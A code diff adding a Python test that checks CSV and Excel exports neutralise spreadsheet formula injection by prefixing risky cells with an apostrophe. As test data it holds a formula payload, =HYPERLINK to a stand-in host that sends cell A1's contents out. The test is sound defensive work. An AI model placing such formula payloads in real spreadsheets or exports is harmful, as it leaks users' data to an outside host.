@@ -90,3 +90,20 @@ def test_chart_images_carry_the_stamp():
     svg = figure_to_image(fig, "svg", STAMP, "sv").decode()
     assert svg.startswith("<svg") and "abc123def456" in svg and "Studie: demo" in svg
     assert fig.layout.annotations == ()  # the shown chart is left as it was
+
+
+def test_formula_like_text_reaches_csv_and_excel_as_text():
+    # Issue 15: a district named =HYPERLINK(...) became a live formula in the Excel export; CSV cells starting
+    # with =, +, -, @ or a tab were written as they are. They now start with an apostrophe (OWASP).
+    hostile = '=HYPERLINK("http://x/leak?d="&A1,"klick")'
+    table = pd.DataFrame({"Distrikt": [hostile, "+1", "@SUM(A1)", "Centrum"], "Antal": ["12", "..", "7", "9"]})
+    stamp = make_stamp("abc", Selection("=1+1", Filters(district=(hostile,))), "Welch", 5, 5, "en")
+    csv = pd.read_csv(io.BytesIO(table_to_csv(table, stamp, "en")), comment="#", dtype=str, encoding="utf-8-sig")
+    assert csv["Distrikt"].tolist() == [f"'{hostile}", "'+1", "'@SUM(A1)", "Centrum"]
+    book = openpyxl.load_workbook(io.BytesIO(table_to_excel(table, stamp, "en")))
+    for sheet in book.worksheets:
+        for row in sheet.iter_rows():
+            for cell in row:
+                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
+    assert book["Table"]["A2"].value == f"'{hostile}"
+    assert dict(book["Source"].values)["Study"] == "'=1+1"
